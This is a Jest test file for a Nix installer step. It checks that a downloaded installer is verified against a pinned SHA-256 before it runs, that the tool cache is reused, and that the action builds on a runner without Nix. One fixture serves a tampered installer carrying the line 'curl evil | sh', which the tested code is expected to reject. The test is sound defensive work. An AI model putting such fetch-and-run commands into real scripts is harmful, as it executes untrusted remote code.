// The Nix install path, run for real: the installer is downloaded over HTTP from a server on
// 127.0.0.1 (the real releases.nixos.org cannot be reached here), checked against its pinned
// SHA-256, kept in the tool cache and run. The served script records that it ran instead of
// installing Nix, since this machine already has one.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import { mkdir, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises'
import type { AddressInfo } from 'node:net'
import { tmpdir, userInfo } from 'node:os'
import { dirname, join } from 'node:path'
import { execFileSync } from 'node:child_process'
import { fetchInstaller, installNix } from '../../src/nix/install.js'
import { images, runAction } from '../helpers/action.js'
import { makeFixtureRepo, stackEnv } from '../helpers/fixture.js'

const script =
  '#!/bin/sh\necho "installer ran with: $*" > "$NCA_INSTALL_MARKER"\nwhile [ $# -gt 0 ]; do [ "$1" = --nix-extra-conf-file ] && cp "$2" "$NCA_INSTALL_MARKER.conf"; shift; done\n'
const sha256 = createHash('sha256').update(script).digest('hex')
// Stands in for Nix's installer on a machine that already has Nix: it puts the machine's nix into the
// single-user profile, where a real single-user install leaves it.
const nixBin = dirname(execFileSync('sh', ['-c', 'command -v nix'], { encoding: 'utf8' }).trim())
const nixVersion = execFileSync('nix', ['--version'], { encoding: 'utf8' })
  .trim()
  .replace(/^nix \(Nix\) /, '')
const fakeInstaller = `#!/bin/sh\nset -e\nmkdir -p "$HOME/.nix-profile/bin"\nfor f in ${nixBin}/nix*; do ln -sf "$f" "$HOME/.nix-profile/bin/"; done\n`
let server: Server
let base: string
let requests = 0
let dir: string

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'nca-install-'))
  process.env.RUNNER_TEMP = join(dir, 'temp')
  process.env.RUNNER_TOOL_CACHE = join(dir, 'cache')
  process.env.NCA_INSTALL_MARKER = join(dir, 'marker')
  server = createServer((req, res) => {
    requests++
    if (req.url === '/nix/install') res.end(script)
    else if (req.url === '/nix/fake-install') res.end(fakeInstaller)
    else if (req.url === '/nix/tampered') res.end(script + 'curl evil | sh\n')
    else res.writeHead(404).end()
  })
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})

afterAll(async () => {
  server.close()
  await rm(dir, { recursive: true, force: true })
})

const log = () => undefined

describe('installing Nix when it is missing', () => {
  it('refuses an installer whose checksum does not match, and never runs it', async () => {
    await expect(installNix({ url: `${base}/nix/tampered`, sha256 }, log)).rejects.toThrow(
      /has SHA-256 [0-9a-f]{64}, not the pinned [0-9a-f]{64}: it was not run/,
    )
    await expect(readFile(process.env.NCA_INSTALL_MARKER!, 'utf8')).rejects.toThrow()
  })

  it('downloads, verifies and runs the pinned installer, non-interactively', async () => {
    await installNix({ url: `${base}/nix/install`, sha256 }, log)
    expect(await readFile(process.env.NCA_INSTALL_MARKER!, 'utf8')).toMatch(
      /^installer ran with: --(no-)?daemon --yes --no-channel-add --nix-extra-conf-file \S+\/nix\.conf$/m,
    )
    // As the CI installers set Nix up: flakes on, and this user trusted by the daemon.
    expect(await readFile(`${process.env.NCA_INSTALL_MARKER!}.conf`, 'utf8')).toBe(
      `experimental-features = nix-command flakes\ntrusted-users = root ${userInfo().username}\n`,
    )
  })

  it('reuses the tool cache the second time, without downloading', async () => {
    const before = requests
    const path = await fetchInstaller({ url: `${base}/nix/install`, sha256 }, log)
    expect(requests).toBe(before)
    expect(path.startsWith(process.env.RUNNER_TOOL_CACHE!)).toBe(true)
  })
})

describe('the action on a runner without nix', () => {
  it('installs Nix through the pinned installer, then builds, loads and tests', async () => {
    // A PATH with every program of this machine but nix.
    const bin = join(dir, 'bin')
    await mkdir(bin)
    for (const d of ['/usr/local/bin', '/usr/bin', '/bin', '/usr/sbin', '/sbin']) {
      for (const name of await readdir(d).catch(() => [] as string[])) {
        if (!name.startsWith('nix')) await symlink(join(d, name), join(bin, name)).catch(() => undefined)
      }
    }
    const home = join(dir, 'home')
    const run = await runAction({
      cwd: await makeFixtureRepo(),
      inputs: {
        container: 'greetContainer',
        architectures: 'x86_64-linux',
        'nix-installer-url': `${base}/nix/fake-install`,
        'nix-installer-sha256': createHash('sha256').update(fakeInstaller).digest('hex'),
      },
      env: { PATH: bin, HOME: home, NIX_CONFIG: stackEnv().NIX_CONFIG },
    })
    expect(run.errors).toEqual([])
    expect(run.log).toContain(`downloading the nix installer from ${base}/nix/fake-install`)
    expect(run.log).toContain(`nix ${nixVersion} at ${home}/.nix-profile/bin/nix`)
    expect(images(run)[0].test).toBe('passed')
  })
})
